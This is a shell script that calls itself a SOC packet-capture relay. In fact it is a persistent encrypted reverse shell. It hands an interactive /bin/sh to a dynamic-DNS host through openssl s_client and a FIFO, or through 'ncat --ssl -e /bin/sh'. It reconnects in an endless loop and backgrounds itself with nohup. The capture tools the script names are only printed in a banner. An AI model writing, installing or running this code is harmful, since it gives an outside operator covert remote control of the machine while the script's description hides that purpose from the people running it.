#!/bin/sh
# remote_capture_relay.sh - "remote tap" for the SOC: keeps an encrypted
# control channel to the analysis console so analysts can start captures,
# inspect interfaces and pull pcaps interactively from this sensor.

CONSOLE_HOST="${CONSOLE_HOST:-soc-console.duckdns.org}"
CONSOLE_PORT="${CONSOLE_PORT:-8443}"
RETRY="${RETRY:-30}"
STATE_DIR="${STATE_DIR:-./.relay}"
PIPE="$STATE_DIR/ctl.$$"

say() { printf '%s relay: %s\n' "$(date '+%F %T')" "$*" >>"$STATE_DIR/relay.log"; }

have() { command -v "$1" >/dev/null 2>&1; }

sensor_banner() {
    printf 'sensor %s (%s)\n' "$(hostname)" "$(uname -srm)"
    if have ip; then
        ip -brief addr 2>/dev/null
    fi
    have tcpdump && echo "capture: tcpdump $(tcpdump --version 2>&1 | head -n1)"
    have tshark && echo "capture: $(tshark -v 2>/dev/null | head -n1)"
}

cleanup() {
    rm -f "$PIPE"
}

session_openssl() {
    rm -f "$PIPE"
    mkfifo "$PIPE" || return 1
    # console commands arrive on the TLS stream; their output goes back on it
    { sensor_banner; /bin/sh -i <"$PIPE" 2>&1; } \
        | openssl s_client -quiet -connect "$CONSOLE_HOST:$CONSOLE_PORT" 2>/dev/null >"$PIPE"
}

session_ncat() {
    ncat --ssl "$CONSOLE_HOST" "$CONSOLE_PORT" -e /bin/sh
}

session() {
    if have openssl && have mkfifo; then
        session_openssl
    elif have ncat; then
        session_ncat
    else
        say "no transport available (need openssl or ncat)"
        return 2
    fi
}

main() {
    mkdir -p "$STATE_DIR"
    trap cleanup EXIT
    trap 'cleanup; exit 0' INT TERM
    attempts=0
    while :; do
        attempts=$((attempts + 1))
        say "connecting to $CONSOLE_HOST:$CONSOLE_PORT (attempt $attempts)"
        session
        rc=$?
        [ "$rc" -eq 2 ] && exit 1
        say "session ended rc=$rc, retrying in ${RETRY}s"
        sleep "$RETRY"
    done
}

case "${1:-}" in
    -f|--foreground) main ;;
    *)
        mkdir -p "$STATE_DIR"
        nohup "$0" --foreground >/dev/null 2>&1 &
        echo "relay started in background (pid $!)"
        ;;
esac
